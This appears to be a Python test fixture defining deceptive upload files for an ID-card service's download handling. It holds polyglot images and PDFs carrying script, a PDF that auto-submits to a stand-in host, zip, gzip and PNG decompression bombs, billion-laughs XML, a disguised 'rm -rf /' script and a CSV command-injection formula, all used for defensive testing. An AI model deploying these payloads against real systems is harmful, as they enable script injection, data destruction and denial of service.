"""Files that are not what they say, or more than one thing at once."""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass
from functools import cache
from typing import Final

from aduan.service.file_types import DOWNLOAD
from tests.browser.files import pdf, png

ACTS: Final = "globalThis.acted=1;document.title='acted';alert(1)"
_SCRIPT: Final = f"<script>{ACTS}</script>".encode()
_BOMB_BYTES: Final = 1024**3
"""What the bombs would be, unpacked."""


@dataclass(frozen=True)
class Liar:
    """A file with the name and the type that its sender gives it, and what we are to call it."""

    content: bytes
    name: str
    claims: str
    is_to_us: str = DOWNLOAD


def _gif_and_script() -> bytes:
    """A picture of one point that is a program too: its width and height are the beginning of a comment."""
    head = b"GIF89a/*" + b"\x01\x00" + b"\x80\x00\x00" + b"\x00" * 6
    image = b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    return head + image + f"*/=1;{ACTS}".encode()


def _jpeg_with_page() -> bytes:
    comment = b"<html><body>" + _SCRIPT + b"</body></html>"
    return b"\xff\xd8\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + b"\xff\xd9"


def _png_with_page() -> bytes:
    whole, said = png(8, 8), b"Comment\0" + _SCRIPT
    chunk = struct.pack(">I", len(said)) + b"tEXt" + said + struct.pack(">I", zlib.crc32(b"tEXt" + said))
    return whole[:33] + chunk + whole[33:]


def _pdf_that_acts() -> bytes:
    """A document that runs a script, opens a page and sends a form as soon as it is opened."""
    action = b"<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('https://jahat.test'\\);app.launchURL\\('https://jahat.test'\\))>>"
    return pdf("KTP").replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction " + action + b"/AA<</O " + action + b">>")


@cache
def _zip_bomb(inside: str = "word/document.xml") -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open(inside, "w", force_zip64=True) as part:
            for _ in range(_BOMB_BYTES // 2**20 // 16):
                part.write(bytes(2**20))
    return packed.getvalue()


@cache
def _gzip_bomb() -> bytes:
    return gzip.compress(bytes(64 * 2**20), 9)


def _png_bomb() -> bytes:
    """A picture that says that it is 50,000 points wide and high, of which nothing is there."""
    head = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 6, 0, 0, 0)
    crc = struct.pack(">I", zlib.crc32(b"IHDR" + head))
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + head + crc + png(8, 8)[33:]


_LAUGHS: Final = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
_SVG: Final = b'<svg xmlns="http://www.w3.org/2000/svg" onload="' + ACTS.encode() + b'">' + _SCRIPT + b"</svg>"
_PAGE: Final = b"<!doctype html><title>KTP</title>" + _SCRIPT

LIARS: Final[Mapping[str, Liar]] = {
    "page as a picture": Liar(_PAGE, "ktp.jpg", "image/jpeg"),
    "page as a document": Liar(_PAGE, "ktp.pdf", "application/pdf"),
    "page by its name": Liar(_PAGE, "ktp.html", "text/html"),
    "page of another coding": Liar("\ufeff".encode("utf-16") + _PAGE.decode().encode("utf-16-le"), "ktp", "text/plain"),
    "drawing": Liar(_SVG, "ktp.svg", "image/svg+xml"),
    "drawing packed": Liar(gzip.compress(_SVG), "ktp.svgz", "image/svg+xml"),
    "drawing as a picture": Liar(_SVG, "ktp.png", "image/png"),
    "markup": Liar(_LAUGHS, "ktp.xml", "application/xml"),
    "markup of pages": Liar(b'<?xml version="1.0"?>' + _PAGE, "ktp.xhtml", "application/xhtml+xml"),
    "program": Liar(f"{ACTS}".encode(), "ktp.js", "text/javascript"),
    "module": Liar(b"\0asm\x01\0\0\0", "ktp.wasm", "application/wasm"),
    "program of another system": Liar(b"MZ\x90\0" + b"\0" * 60, "ktp.pdf.exe", "application/pdf"),
    "turned name": Liar(b"MZ\x90\0" + b"\0" * 60, "ktp\u202efdp.exe", "application/pdf"),
    "script of a shell": Liar(b"#!/bin/sh\nrm -rf /\n", "ktp.jpg", "image/jpeg"),
    "link of a system": Liar(b"[InternetShortcut]\nURL=javascript:alert(1)\n", "ktp.url", "text/plain"),
    "archive of a page": Liar(b"From: x\nContent-Type: multipart/related\n\n" + _PAGE, "ktp.mht", "message/rfc822"),
    "sheet with a formula": Liar(b"=cmd|' /C calc'!A0,1\n", "ktp.csv", "text/csv"),
    "picture and program": Liar(_gif_and_script(), "ktp.gif", "image/gif", "image/gif"),
    "picture and page": Liar(_jpeg_with_page(), "ktp.html", "text/html", "image/jpeg"),
    "picture with a page in its words": Liar(_png_with_page(), "ktp.png", "image/png", "image/png"),
    "picture, then page": Liar(png(8, 8) + _PAGE, "ktp.htm", "text/html", "image/png"),
    "document and page": Liar(pdf("KTP").replace(b"%PDF-1.4\n", b"%PDF-1.4\n" + _PAGE + b"\n"), "ktp.html",
                              "text/html", "application/pdf"),
    "document that acts": Liar(_pdf_that_acts(), "ktp.pdf", "application/pdf", "application/pdf"),
    "page, then document": Liar(_PAGE + pdf("KTP"), "ktp.pdf", "application/pdf"),
    "picture and archive": Liar(_jpeg_with_page() + b"PK\x03\x04", "ktp.jar", "application/java-archive", "image/jpeg"),
    "sound and page": Liar(b"ID3\x03\0\0\0\0\0\0" + _PAGE, "ktp.html", "text/html", "audio/mpeg"),
    "film and page": Liar(b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + _PAGE, "ktp.html", "text/html", "video/mp4"),
    "bomb": Liar(_zip_bomb(), "ktp.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "bomb of one stream": Liar(_gzip_bomb(), "ktp.gz", "application/gzip"),
    "picture too large to draw": Liar(_png_bomb(), "ktp.png", "image/png", "image/png"),
    "cut picture": Liar(png()[:200], "ktp.png", "image/png", "image/png"),
    "cut document": Liar(pdf("KTP")[:30], "ktp.pdf", "application/pdf", "application/pdf"),
    "first letters only": Liar(b"\xff\xd8\xff", "ktp.jpg", "image/jpeg", "image/jpeg"),
    "nothing": Liar(b"", "ktp.jpg", "image/jpeg"),
    "noughts": Liar(bytes(1000), "ktp.jpg", "image/jpeg"),
}  # fmt: skip
